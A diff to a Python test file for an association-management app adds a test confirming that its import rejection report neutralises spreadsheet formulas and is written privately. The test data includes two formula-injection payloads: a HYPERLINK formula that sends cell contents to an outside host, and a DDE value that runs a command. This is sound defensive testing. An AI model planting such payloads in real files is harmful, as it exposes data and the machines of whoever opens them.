@@ -26,6 +26,7 @@ from cpts_desktop.services.association import letterhead
 from cpts_desktop.services.database import open_database
 from cpts_desktop.services.exports import export_members, write_email_list
 from cpts_desktop.services.gdpr import export_folder, member_file, write_member_json
+from cpts_desktop.services.imports import ImportReport, Rejection, write_rejections
 from cpts_desktop.services.members import create_member
 from cpts_desktop.store.models import Member
 
@@ -93,6 +94,22 @@ def test_exports_documents_and_log_are_private_even_without_the_umask(own_folder
     assert mode(rgpd) == mode(rgpd.parent) == 0o700
     assert mode(out) == 0o755  # a folder the user already had keeps its modes
     assert not list(own_folders.rglob("*.partiel"))
+
+
+def test_the_rejection_report_is_neutralised_private_and_never_half_written(tmp_path: Path):
+    report = ImportReport()
+    report.rejected += [
+        Rejection(3, "Email", '=HYPERLINK("http://example.org/?"&A1;"Cliquez")', "Email : adresse invalide."),
+        Rejection(4, "Nom", "@SUM(1+1)*cmd|' /C calc'!A0", "Nom : caractères refusés."),
+    ]
+    path = tmp_path / "refus.txt"
+    write_rejections(report, path)
+    lines = path.read_text(encoding="utf-8-sig").splitlines()
+    assert lines[0] == "Ligne;Colonne;Valeur;Motif"
+    assert lines[1].startswith("3;Email;\"'=HYPERLINK(") and lines[2].startswith("4;Nom;'@SUM(1+1)")
+    assert [p.name for p in tmp_path.iterdir()] == ["refus.txt"]
+    if os.name == "posix":
+        assert mode(path) == 0o600
 
 
 def test_the_log_holds_no_password_sql_parameter_or_contact(tmp_path: Path, db_path: Path):
